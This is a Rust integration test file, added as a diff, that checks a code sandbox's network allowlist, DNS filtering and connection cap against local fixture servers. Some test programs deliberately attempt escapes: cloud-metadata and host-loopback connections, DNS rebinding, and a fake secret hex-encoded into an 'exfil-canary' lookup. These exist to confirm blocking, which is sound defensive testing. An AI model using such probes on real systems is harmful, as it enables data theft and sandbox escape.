@@ -1,0 +1,486 @@
+//! Network policies, end to end: an allowlist sandbox reaches the servers its profile lists (by
+//! name and by address, plain TCP, HTTP and HTTPS, from Python and TypeScript) and nothing else;
+//! its DNS answers only allowed names and asks the upstream server about nothing else;
+//! `network = "none"` has only loopback. Every server lives on addresses the fixture adds to the
+//! host's loopback interface (198.18.N.0/24, the benchmarking range) and removes afterwards.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+use crate::{assert_gone, bin, env, Run};
+
+/// A refused attempt must fail well before any client timeout (the programs use 8 s); this
+/// bound only detects hanging.
+const QUICK: f64 = 3.0;
+
+/// Servers and a profile set for one test, on 198.18.`n`.0/24:
+/// `.2` is allowed (HTTP :8080, echo :7007, HTTPS :8443 as `secure.test`), `.3` is another
+/// server nobody allowed (HTTP :8080), `.4` is the upstream DNS server (UDP :53).
+pub struct Fixture {
+    n: u8,
+    config: PathBuf,
+    dir: PathBuf,
+    /// Question names the upstream DNS server received.
+    queries: Arc<Mutex<Vec<String>>>,
+    /// Connections the servers that must stay unreached received (the other server, the host's loopback service).
+    forbidden_hits: Arc<AtomicUsize>,
+    /// Port of a service on the host's 127.0.0.1.
+    host_loopback_port: u16,
+    https: Child,
+}
+
+impl Fixture {
+    pub fn new(n: u8) -> Self {
+        let fx_dir = tempfile::Builder::new().prefix("net-").tempdir_in(&env().dir).unwrap().keep();
+        std::fs::set_permissions(&fx_dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+        for host in [2, 3, 4] {
+            let addr = format!("198.18.{n}.{host}/32");
+            let _ = Command::new("ip").args(["addr", "del", &addr, "dev", "lo"]).stderr(Stdio::null()).status();
+            let st = Command::new("ip").args(["addr", "add", &addr, "dev", "lo"]).status().expect("iproute2 is installed (scripts/install-deps.sh)");
+            assert!(st.success(), "ip addr add {addr} failed");
+        }
+        let allowed = Ipv4Addr::new(198, 18, n, 2);
+        let forbidden_hits = Arc::new(AtomicUsize::new(0));
+        http_server(TcpListener::bind((allowed, 8080)).unwrap(), format!("hello from {allowed}"), None);
+        echo_server(TcpListener::bind((allowed, 7007)).unwrap());
+        http_server(TcpListener::bind((Ipv4Addr::new(198, 18, n, 3), 8080)).unwrap(), "other".into(), Some(forbidden_hits.clone()));
+        let host_lo = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+        let host_loopback_port = host_lo.local_addr().unwrap().port();
+        http_server(host_lo, "host loopback".into(), Some(forbidden_hits.clone()));
+        let queries = Arc::new(Mutex::new(Vec::new()));
+        dns_server(UdpSocket::bind((Ipv4Addr::new(198, 18, n, 4), 53)).unwrap(), allowed, queries.clone());
+        let https = https_server(&fx_dir, allowed);
+        let config = fx_dir.join("config.toml");
+        // Python runs in python-analysis, which has requests.
+        crate::environments_installed();
+        let profile = |name: &str, language: &str| {
+            let environment = if language == "python" { "environment = \"python-analysis\"\n" } else { "" };
+            format!(
+                "[profiles.{name}]\nlanguage = \"{language}\"\n{environment}[profiles.{name}.limits]\ntimeout_ms = 30000\n\
+                 [profiles.{name}.network]\nallow = [\"api.test:8080\", \"{allowed}:7007-7008\", \"secure.test:8443\", \"up.test:8080\", \"rebind.test:80\", \"*.wild.test:8080\"]\n\
+                 hosts = {{ \"api.test\" = \"{allowed}\", \"secure.test\" = \"{allowed}\" }}\n"
+            )
+        };
+        std::fs::write(
+            &config,
+            format!(
+                "{}[network]\nupstream_dns = \"198.18.{n}.4:53\"\n{}{}[profiles.none-py]\nlanguage = \"python\"\n",
+                crate::runtime_toml(),
+                profile("net-py", "python"),
+                profile("net-ts", "typescript")
+            ),
+        )
+        .unwrap();
+        Fixture { n, config, dir: fx_dir, queries, forbidden_hits, host_loopback_port, https }
+    }
+
+    /// `sandbox run --json` under this fixture's configuration; `code` may say `{N}` for the
+    /// fixture's number and `{HOSTPORT}` for the host loopback service's port.
+    pub fn run(&self, profile: &str, code: &str, args: &[&str]) -> Run {
+        let code = code.replace("{N}", &self.n.to_string()).replace("{HOSTPORT}", &self.host_loopback_port.to_string());
+        let ca = format!("ca.pem={}", self.dir.join("ca.pem").display());
+        let mut all = vec!["run", "--json", "--profile", profile, "-c", &code, "--file", &ca];
+        all.extend_from_slice(args);
+        let start = Instant::now();
+        let out = Command::new(bin()).arg("--config").arg(&self.config).arg("--data-dir").arg(&env().data).args(&all).output().unwrap();
+        let json: Value = serde_json::from_slice(&out.stdout)
+            .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)));
+        Run { json, status: out.status.code().unwrap_or(-1), elapsed: start.elapsed(), stderr: String::from_utf8_lossy(&out.stderr).into_owned() }
+    }
+
+    /// Question names the upstream DNS server received so far.
+    pub fn queries(&self) -> Vec<String> {
+        self.queries.lock().unwrap().clone()
+    }
+
+    /// `sandbox audit show ID` as JSON.
+    pub fn audit_record(&self, id: &str) -> Value {
+        let out = Command::new(bin()).arg("--config").arg(&self.config).arg("--data-dir").arg(&env().data).args(["audit", "show", id]).output().unwrap();
+        assert!(out.status.success(), "{out:?}");
+        serde_json::from_slice(&out.stdout).unwrap()
+    }
+}
+
+impl Drop for Fixture {
+    fn drop(&mut self) {
+        let _ = self.https.kill();
+        let _ = self.https.wait();
+        for host in [2, 3, 4] {
+            let _ = Command::new("ip").args(["addr", "del", &format!("198.18.{}.{host}/32", self.n), "dev", "lo"]).status();
+        }
+    }
+}
+
+/// Answers every request on `l` with 200 and `body`, counting connections in `hits`.
+fn http_server(l: TcpListener, body: String, hits: Option<Arc<AtomicUsize>>) {
+    std::thread::spawn(move || {
+        for s in l.incoming().flatten() {
+            if let Some(h) = &hits {
+                h.fetch_add(1, Ordering::SeqCst);
+            }
+            let body = body.clone();
+            std::thread::spawn(move || {
+                let mut r = BufReader::new(s.try_clone().unwrap());
+                let mut line = String::new();
+                while r.read_line(&mut line).is_ok_and(|n| n > 2) {
+                    line.clear();
+                }
+                let mut s = s;
+                let _ = write!(s, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
+            });
+        }
+    });
+}
+
+fn echo_server(l: TcpListener) {
+    std::thread::spawn(move || {
+        for mut s in l.incoming().flatten() {
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 4096];
+                while let Ok(n @ 1..) = s.read(&mut buf) {
+                    if s.write_all(&buf[..n]).is_err() {
+                        break;
+                    }
+                }
+            });
+        }
+    });
+}
+
+/// The upstream resolver the engine is configured with: answers `up.test` with `allowed`,
+/// `rebind.test` with the metadata address, NXDOMAIN otherwise; records every question.
+fn dns_server(sock: UdpSocket, allowed: Ipv4Addr, seen: Arc<Mutex<Vec<String>>>) {
+    use hickory_proto::op::{Message, OpCode, ResponseCode};
+    use hickory_proto::rr::{rdata::A, RData, Record};
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 4096];
+        while let Ok((n, from)) = sock.recv_from(&mut buf) {
+            let Ok(q) = Message::from_vec(&buf[..n]) else { continue };
+            let Some(question) = q.queries.first() else { continue };
+            let name = question.name().to_ascii().trim_end_matches('.').to_owned();
+            seen.lock().unwrap().push(name.clone());
+            let mut r = Message::response(q.metadata.id, OpCode::Query);
+            r.add_query(question.clone());
+            let ip = match name.as_str() {
+                "up.test" | "wild.test" => Some(allowed),
+                n if n.ends_with(".wild.test") => Some(allowed),
+                "rebind.test" => Some(Ipv4Addr::new(169, 254, 169, 254)),
+                _ => None,
+            };
+            match ip {
+                Some(ip) => {
+                    r.add_answer(Record::from_rdata(question.name().clone(), 60, RData::A(A(ip))));
+                }
+                None => r.metadata.response_code = ResponseCode::NXDomain,
+            }
+            let _ = sock.send_to(&r.to_vec().unwrap(), from);
+        }
+    });
+}
+
+/// A test CA (`dir/ca.pem`), a certificate for `secure.test` signed by it, and `openssl s_server
+/// -www` serving HTTPS on `addr`:8443.
+fn https_server(dir: &std::path::Path, addr: Ipv4Addr) -> Child {
+    let sh = |script: &str| {
+        let out = Command::new("sh").arg("-ec").arg(script).current_dir(dir).output().unwrap();
+        assert!(out.status.success(), "openssl failed: {}", String::from_utf8_lossy(&out.stderr));
+    };
+    sh("openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.pem -days 2 -subj /CN=sandbox-test-ca 2>/dev/null
+        openssl req -newkey rsa:2048 -nodes -keyout leaf.key -out leaf.csr -subj /CN=secure.test 2>/dev/null
+        printf 'subjectAltName=DNS:secure.test\\nbasicConstraints=CA:FALSE\\nextendedKeyUsage=serverAuth\\n' > ext.cnf
+        openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -out leaf.pem -days 2 -extfile ext.cnf 2>/dev/null
+        chmod 644 ca.pem");
+    let child = Command::new("openssl")
+        .args(["s_server", "-quiet", "-www", "-accept", &format!("{addr}:8443"), "-cert", "leaf.pem", "-key", "leaf.key"])
+        .current_dir(dir)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let start = Instant::now();
+    while TcpStream::connect((addr, 8443)).is_err() {
+        assert!(start.elapsed() < Duration::from_secs(10), "openssl s_server did not start");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    child
+}
+
+fn output_json(r: &Run) -> Value {
+    assert_eq!(r.status(), "ok", "{r:?}");
+    serde_json::from_str(r.stdout().lines().last().unwrap_or("")).unwrap_or_else(|e| panic!("{e}: {r:?}"))
+}
+
+fn blocked(r: &Run) -> Vec<Value> {
+    r.json["network"]["blocked"].as_array().cloned().unwrap_or_default()
+}
+
+/// Whether the report has a blocked entry with these fields.
+#[track_caller]
+fn assert_blocked(r: &Run, address: &str, port: Option<u16>, protocol: &str, reason: &str) {
+    let found = blocked(r).iter().any(|b| {
+        b["address"] == address && b["port"].as_u64() == port.map(u64::from) && b["protocol"] == protocol && b["reason"] == reason && b["at"].is_string()
+    });
+    assert!(found, "no blocked entry {address}:{port:?}/{protocol} {reason} in {:#}", r.json["network"]);
+}
+
+#[test]
+fn python_reaches_allowed_servers_by_name_and_address() {
+    let fx = Fixture::new(1);
+    let r = fx.run(
+        "net-py",
+        r#"
+import json, socket, urllib.request
+out = {}
+out["name"] = urllib.request.urlopen("http://api.test:8080/a", timeout=8).read().decode()
+out["ip"] = urllib.request.urlopen("http://198.18.{N}.2:8080/b", timeout=8).read().decode()
+s = socket.create_connection(("198.18.{N}.2", 7007), timeout=8)
+s.sendall(b"ping"); out["echo"] = s.recv(100).decode(); s.close()
+# HTTPS with the test CA from SSL_CERT_FILE: no special code, TLS end to end.
+r = urllib.request.urlopen("https://secure.test:8443/", timeout=8)
+out["https"] = [r.status, r.read().decode(errors="replace")[:200]]
+import requests  # from the python-analysis environment
+out["requests"] = requests.get("http://api.test:8080/c", timeout=8).text
+out["requests_tls"] = requests.get("https://secure.test:8443/", timeout=8).status_code
+print(json.dumps(out))
+"#,
+        &["--env", "SSL_CERT_FILE=/workspace/ca.pem", "--env", "REQUESTS_CA_BUNDLE=/workspace/ca.pem"],
+    );
+    let out = output_json(&r);
+    assert_eq!(out["name"], "hello from 198.18.1.2", "{r:?}");
+    assert_eq!((out["requests"].as_str(), out["requests_tls"].as_u64()), (Some("hello from 198.18.1.2"), Some(200)), "{r:?}");
+    assert_eq!(out["ip"], "hello from 198.18.1.2");
+    assert_eq!(out["echo"], "ping");
+    assert_eq!(out["https"][0], 200, "{r:?}");
+    assert_eq!(r.json["enforcement"]["network"], "allowlist");
+    let allowed = r.json["network"]["allowed"].as_array().unwrap();
+    let conn = |port: u64, host: Option<&str>| {
+        allowed.iter().find(|c| c["port"] == port && c["address"] == "198.18.1.2" && c["host"].as_str() == host && c["protocol"] == "tcp")
+    };
+    let by_name = conn(8080, Some("api.test")).unwrap_or_else(|| panic!("no allowed api.test:8080 in {allowed:#?}"));
+    assert!(by_name["bytesSent"].as_u64().unwrap() > 50 && by_name["bytesReceived"].as_u64().unwrap() > 50, "{by_name:#}");
+    let echo = conn(7007, Some("api.test")).or(conn(7007, None)).expect("echo connection reported");
+    assert_eq!((echo["bytesSent"].as_u64(), echo["bytesReceived"].as_u64()), (Some(4), Some(4)));
+    assert!(conn(8443, Some("secure.test")).is_some(), "{allowed:#?}");
+    assert!(blocked(&r).is_empty(), "{:#}", r.json["network"]);
+    let id = r.json["executionId"].as_str().unwrap();
+    assert_gone(id);
+    // The audit record holds the same report.
+    let rec = fx.audit_record(id);
+    assert_eq!(rec["result"]["network"], r.json["network"], "{rec:#}");
+}
+
+#[test]
+fn typescript_fetch_reaches_allowed_servers() {
+    let fx = Fixture::new(2);
+    let r = fx.run(
+        "net-ts",
+        r#"
+const plain: string = await (await fetch("http://api.test:8080/ts")).text();
+const byIp: string = await (await fetch("http://198.18.{N}.2:8080/ts")).text();
+const tls: number = (await fetch("https://secure.test:8443/")).status;
+let other = "REACHED";
+try { await fetch("http://198.18.{N}.3:8080/", { signal: AbortSignal.timeout(8000) }); } catch (e) { other = (e as Error).cause ? String(((e as Error).cause as any).code) : (e as Error).name; }
+console.log(JSON.stringify({ plain, byIp, tls, other }));
+"#,
+        &["--env", "NODE_EXTRA_CA_CERTS=/workspace/ca.pem"],
+    );
+    let out = output_json(&r);
+    assert_eq!((out["plain"].as_str(), out["byIp"].as_str(), out["tls"].as_u64()), (Some("hello from 198.18.2.2"), Some("hello from 198.18.2.2"), Some(200)), "{r:?}");
+    assert_eq!(out["other"], "ECONNREFUSED", "{r:?}");
+    assert_blocked(&r, "198.18.2.3", Some(8080), "tcp", "not_allowed");
+    assert_eq!(fx.forbidden_hits.load(Ordering::SeqCst), 0);
+}
+
+/// The host's network interfaces (`/sys/class/net`).
+fn host_links() -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir("/sys/class/net").unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn everything_else_is_refused_at_once_and_reported() {
+    let fx = Fixture::new(3);
+    let links_before = host_links();
+    let r = fx.run(
+        "net-py",
+        r#"
+import json, socket, time
+res = {}
+def attempt(name, f):
+    t = time.time()
+    try:
+        f(); res[name] = ["REACHED", 0]
+    except OSError as e:
+        res[name] = [e.errno, time.time() - t]
+tcp = lambda host, port: lambda: socket.create_connection((host, port), timeout=8)
+attempt("other_server", tcp("198.18.{N}.3", 8080))
+attempt("allowed_address_other_port", tcp("198.18.{N}.2", 8081))
+attempt("metadata", tcp("169.254.169.254", 80))
+attempt("host_loopback", tcp("127.0.0.1", {HOSTPORT}))
+attempt("engine_gateway", tcp("10.200.0.1", 22))
+attempt("internet", tcp("1.1.1.1", 443))
+attempt("ipv6", tcp("2001:db8::1", 443))
+def udp():
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(8)
+    u.connect(("8.8.8.8", 53)); u.send(b"\x12\x34"); u.recv(512)
+attempt("udp", udp)
+attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
+attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
+print(json.dumps(res))
+"#,
+        &[],
+    );
+    let out = output_json(&r);
+    let (refused, perm, no_family) = (111, 1, 97);
+    for (name, errno) in [
+        ("other_server", refused),
+        ("allowed_address_other_port", refused),
+        ("metadata", refused),
+        ("host_loopback", refused),
+        ("engine_gateway", refused),
+        ("internet", refused),
+        ("ipv6", refused),
+        ("udp", refused),
+        ("raw", perm),
+        ("packet", no_family),
+    ] {
+        assert_eq!(out[name][0], errno, "{name}: {r:?}");
+        assert!(out[name][1].as_f64().unwrap() < QUICK, "{name} was not refused quickly: {r:?}");
+    }
+    assert_blocked(&r, "198.18.3.3", Some(8080), "tcp", "not_allowed");
+    assert_blocked(&r, "198.18.3.2", Some(8081), "tcp", "not_allowed");
+    assert_blocked(&r, "169.254.169.254", Some(80), "tcp", "not_allowed");
+    assert_blocked(&r, "10.200.0.1", Some(22), "tcp", "not_allowed");
+    assert_blocked(&r, "1.1.1.1", Some(443), "tcp", "not_allowed");
+    assert_blocked(&r, "2001:db8::1", Some(443), "tcp", "not_allowed");
+    assert_blocked(&r, "8.8.8.8", Some(53), "udp", "protocol_not_allowed");
+    assert!(r.json["network"]["allowed"].as_array().unwrap().is_empty(), "{:#}", r.json["network"]);
+    // 127.0.0.1 inside is the sandbox's own loopback: the host's service saw nothing.
+    assert_eq!(fx.forbidden_hits.load(Ordering::SeqCst), 0);
+    assert_gone(r.json["executionId"].as_str().unwrap());
+    // The sandbox's device lived in its namespace only; the host gained no interface.
+    assert_eq!(host_links(), links_before);
+}
+
+#[test]
+fn dns_answers_allowed_names_only_and_asks_upstream_about_nothing_else() {
+    let fx = Fixture::new(4);
+    let r = fx.run(
+        "net-py",
+        r#"
+import json, random, socket, string, time
+def look(name):
+    t = time.time()
+    try:
+        return [socket.gethostbyname(name), time.time() - t]
+    except OSError as e:
+        return [type(e).__name__, time.time() - t]
+random_label = "".join(random.choices(string.ascii_lowercase + string.digits, k=60))
+res = {
+    "upstream": look("up.test"),
+    "static": look("api.test"),
+    "other": look("evil.test"),
+    "random_subdomain": look(random_label + ".api.test"),
+    "exfil": look(b"fake-secret-1234".hex() + ".exfil-canary.invalid"),
+    "rebind": look("rebind.test"),
+    "wildcard": look("a.b.wild.test"),
+    "wildcard_apex": look("wild.test"),
+    "random_label": random_label,
+}
+print(json.dumps(res))
+"#,
+        &[],
+    );
+    let out = output_json(&r);
+    assert_eq!(out["upstream"][0], "198.18.4.2", "{r:?}");
+    assert_eq!(out["static"][0], "198.18.4.2", "{r:?}");
+    assert_eq!(out["wildcard"][0], "198.18.4.2", "{r:?}");
+    for name in ["other", "random_subdomain", "exfil", "rebind", "wildcard_apex"] {
+        assert_eq!(out[name][0], "gaierror", "{name}: {r:?}");
+        assert!(out[name][1].as_f64().unwrap() < QUICK, "{name} did not fail quickly: {r:?}");
+    }
+    let random_label = out["random_label"].as_str().unwrap();
+    for name in ["evil.test", &format!("{random_label}.api.test"), "66616b652d7365637265742d31323334.exfil-canary.invalid"] {
+        assert!(blocked(&r).iter().any(|b| b["host"] == name && b["protocol"] == "dns" && b["reason"] == "name_not_allowed"), "{name} not reported: {:#}", r.json["network"]);
+    }
+    assert!(blocked(&r).iter().any(|b| b["host"] == "rebind.test" && b["reason"] == "internal_address"), "{:#}", r.json["network"]);
+    // Only allowed names, and only those not in the profile's hosts, reached the upstream server.
+    let seen = fx.queries.lock().unwrap().clone();
+    assert!(seen.iter().all(|q| q == "up.test" || q == "rebind.test" || q == "a.b.wild.test"), "upstream saw {seen:?}");
+    assert!(seen.iter().any(|q| q == "up.test"), "upstream saw {seen:?}");
+}
+
+#[test]
+fn network_none_has_only_loopback() {
+    let fx = Fixture::new(5);
+    let code = r#"
+import json, socket
+ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
+try:
+    socket.create_connection(("198.18.{N}.2", 8080), timeout=8); reached = True
+except OSError as e:
+    reached = e.errno
+try:
+    socket.gethostbyname("api.test"); resolved = True
+except OSError as e:
+    resolved = type(e).__name__
+print(json.dumps({"ifaces": ifaces, "reached": reached, "resolved": resolved}))
+"#;
+    let r = fx.run("none-py", code, &[]);
+    let out = output_json(&r);
+    assert_eq!(out["ifaces"], serde_json::json!(["lo"]), "{r:?}");
+    assert_eq!(out["reached"], 101, "ENETUNREACH expected: {r:?}");
+    assert_eq!(out["resolved"], "gaierror");
+    assert_eq!(r.json["enforcement"]["network"], "none");
+    assert!(r.json.get("network").is_none(), "{r:?}");
+    // The allowlist twin has exactly one more interface, the engine's.
+    let r = fx.run("net-py", code, &[]);
+    assert_eq!(output_json(&r)["ifaces"], serde_json::json!(["lo", "eth0"]), "{r:?}");
+}
+
+#[test]
+fn allowed_connections_are_capped_per_sandbox() {
+    let fx = Fixture::new(8);
+    let r = fx.run(
+        "net-py",
+        r#"
+import json, socket, time
+t = time.time()
+socks, refused = [], 0
+for _ in range(260):
+    try:
+        socks.append(socket.create_connection(("198.18.{N}.2", 7007), timeout=8))
+    except ConnectionRefusedError:
+        refused += 1
+ok = failed = 0
+for s in socks:
+    try:
+        s.sendall(b"x")
+        if s.recv(1) == b"x":
+            ok += 1
+        else:
+            failed += 1
+    except OSError:
+        failed += 1
+print(json.dumps({"ok": ok, "failed": failed, "refused": refused, "secs": time.time() - t}))
+"#,
+        &[],
+    );
+    let out = output_json(&r);
+    // Past the cap a SYN is reset (refused); one racing the cap may be accepted and closed at
+    // once (failed). Either way at once, and exactly 256 work.
+    assert_eq!(out["ok"].as_u64(), Some(256), "{r:?}");
+    assert_eq!(out["failed"].as_u64().unwrap() + out["refused"].as_u64().unwrap(), 4, "{r:?}");
+    assert!(out["secs"].as_f64().unwrap() < 2.0 * QUICK, "refused connections hung: {r:?}");
+    let over = blocked(&r).iter().filter(|b| b["reason"] == "too_many_connections" && b["port"] == 7007).count();
+    assert_eq!(over, 4, "{:#}", r.json["network"]);
+}
